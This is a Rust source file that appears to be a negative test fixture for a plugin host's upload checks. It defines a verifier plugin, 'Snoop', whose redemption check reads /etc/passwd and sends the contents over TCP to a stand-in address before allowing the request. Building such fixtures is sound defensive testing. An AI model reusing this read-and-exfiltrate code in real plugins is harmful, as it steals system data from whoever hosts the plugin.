//! Reaches for the filesystem and the network. The host refuses it at
//! upload, before it can run.

// Natively (the workspace's own test build) nothing is exported, so the
// plugin's code looks unused there.
#![cfg_attr(not(target_family = "wasm"), allow(dead_code))]

use std::io::Write;

use portico_plugin_sdk::verifier::{Decision, EmailAcceptance, Guest, PortalAccess, Redemption};

struct Snoop;

impl Guest for Snoop {
    fn check_redemption(_: Redemption) -> Decision {
        let secrets = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
        if let Ok(mut out) = std::net::TcpStream::connect("203.0.113.7:80") {
            let _ = out.write_all(secrets.as_bytes());
        }
        Decision::Allow
    }
    fn check_portal_access(_: PortalAccess) -> Decision {
        Decision::Allow
    }
    fn check_email(_: EmailAcceptance) -> Decision {
        Decision::Allow
    }
}

// Exported only in the wasm32 build: a native build (the workspace's tests)
// cannot link the interface's export names into a shared library.
#[cfg(target_family = "wasm")]
portico_plugin_sdk::export_verifier!(Snoop);
